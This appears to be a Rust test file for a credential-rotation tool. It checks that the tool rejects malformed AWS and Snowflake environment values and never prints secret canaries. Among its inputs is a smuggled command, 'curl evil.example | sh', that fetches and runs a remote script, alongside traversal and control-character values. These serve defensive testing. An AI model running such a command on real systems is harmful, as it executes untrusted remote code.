//! What a machine hands over: secrets that were mounted with a line break at their end, and values that are none.

use rotate_fixtures::aws::Action;
use rotate_fixtures::{Ran, SnowflakeWorkplace, Workplace};

use crate::no_panic::{AT_ONCE, ROTATE};

#[test]
fn a_key_id_that_was_mounted_with_its_line_break_works_and_is_told_once() {
    let place = Workplace::new(ROTATE);
    let admin = place.cloud.admin();
    for (id, secret) in [
        (format!("{}\n", admin.id), admin.secret.clone()),
        (format!("{}\r\n", admin.id), format!("{}\r\n\n", admin.secret)),
    ] {
        let mut plan = place.rotate(["--dry-run"]);
        plan.env("AWS_ACCESS_KEY_ID", &id).env("AWS_SECRET_ACCESS_KEY", &secret);
        let ran = Ran::of(plan)
            .expect(0)
            .says(&["AWS_ACCESS_KEY_ID ends with a line break"]);
        assert_eq!(
            ran.stderr.matches("AWS_ACCESS_KEY_ID ends").count(),
            1,
            "{}",
            ran.stderr
        );
    }
    assert!(place.cloud.count_of(Action::GetUser) >= 2);
}

#[test]
fn a_login_with_a_line_break_within_is_told_by_its_variable_and_not_shown() {
    let place = Workplace::new(ROTATE);
    let admin = place.cloud.admin();
    for (variable, value) in [
        ("AWS_ACCESS_KEY_ID", "AKIA\nCANARY".to_owned()),
        ("AWS_ACCESS_KEY_ID", "CANARY; curl evil.example | sh".to_owned()),
        ("AWS_ACCESS_KEY_ID", format!("{}\u{202e}CANARY", admin.id)),
        ("AWS_ACCESS_KEY_ID", "CANARY".repeat(20_000)),
        ("AWS_SECRET_ACCESS_KEY", "CANARY\r\nx".to_owned()),
        ("AWS_SECRET_ACCESS_KEY", "CANARY".repeat(100)),
        ("AWS_SESSION_TOKEN", "CANARY\nx".to_owned()),
    ] {
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env(variable, &value).arg("-vvv");
        let ran = Ran::of(rotate)
            .expect(1)
            .says(&[variable, "on one line", "nothing was changed"]);
        assert!(
            !ran.stderr.contains("CANARY") && !ran.stdout.contains("CANARY"),
            "{ran:#?}"
        );
    }
    assert_eq!(place.cloud.call_count(), 0);
    place.expect_untouched();
}

#[test]
fn a_file_that_stands_for_the_systems_authorities_and_has_none_is_told() {
    let place = Workplace::new(ROTATE);
    std::fs::write(place.path("empty.pem"), "nothing").expect("a file can be written");
    for (file, why) in [
        ("", "no certificate"),
        ("missing.pem", "no certificate"),
        ("empty.pem", "no certificate"),
        ("/dev/null", "no certificate"),
        ("/dev", "it is a folder"),
        ("\u{fc}\u{1b}[2J", "no certificate"),
    ] {
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env("SSL_CERT_FILE", file);
        Ran::of(rotate).expect(1).says(&["SSL_CERT_FILE", why]);
    }
    assert_eq!(place.cloud.call_count(), 0);
}

#[test]
fn a_region_that_is_none_is_told() {
    let place = Workplace::new(ROTATE);
    for bad in ["us east", "x/../y", "evil.example/", "\u{202e}us", "us\neast"] {
        let mut rotate = place.rotate(AT_ONCE);
        rotate.env("AWS_REGION", bad);
        Ran::of(rotate).expect(1).says(&["AWS_REGION", "no region"]);
    }
    assert_eq!(place.cloud.call_count(), 0);
    let mut mounted = place.rotate(["--dry-run"]);
    mounted.env("AWS_REGION", "us-east-1\n");
    Ran::of(mounted).expect(0).says(&["the region ends with a line break"]);
}

#[test]
fn a_snowflake_password_that_was_mounted_works_and_one_of_two_lines_is_told() {
    let place = SnowflakeWorkplace::new(ROTATE);
    let plan = || place.rotate(["--dry-run"]);
    let command = plan();
    let mut envs = command.get_envs();
    let password = envs.find_map(|(name, value)| (name == "SNOWFLAKE_PASSWORD").then_some(value?));
    let password = password.expect("the administrator has a password").to_owned();
    let mut mounted = plan();
    let mut with_end = password.clone();
    with_end.push("\r\n");
    mounted.env("SNOWFLAKE_PASSWORD", with_end);
    Ran::of(mounted)
        .expect(0)
        .says(&["SNOWFLAKE_PASSWORD ends with a line break"]);
    for (variable, value) in [
        ("SNOWFLAKE_PASSWORD", "CANARY\nx".to_owned()),
        ("SNOWFLAKE_PASSWORD", "CANARY".repeat(12_000)),
        ("SNOWFLAKE_USER", "CANARY\u{7}x".to_owned()),
        ("SNOWFLAKE_ROLE", "CANARY".repeat(100)),
    ] {
        let mut broken = plan();
        broken.env(variable, value).arg("-vvv");
        let ran = Ran::of(broken).expect(1).says(&[variable, "one line"]);
        assert!(!ran.stderr.contains("CANARY"), "{}", ran.stderr);
    }
}

#[test]
fn a_prefix_of_seventy_thousand_letters_is_refused_and_not_repeated() {
    let place = Workplace::new(ROTATE);
    let long = "p".repeat(70_000);
    for (option, value) in [
        ("--prefix", long.as_str()),
        ("--profile", long.as_str()),
        ("--region", long.as_str()),
        ("--user", long.as_str()),
        ("--assume-role", &format!("arn:aws:iam::123456789012:role/{long}")),
    ] {
        let mut command = vec!["s3-customer-managed", "--deliver", "file:key.json"];
        for (name, good) in [("--user", "gainsight-s3"), ("--bucket", "acme-data")] {
            if name != option {
                command.extend([name, good]);
            }
        }
        command.extend([option, value]);
        let ran = place.run(&command).expect(64).says(&[option]);
        assert!(ran.stderr.len() < 5_000, "{option}: {} letters", ran.stderr.len());
    }
    assert_eq!(place.cloud.call_count(), 0);
}
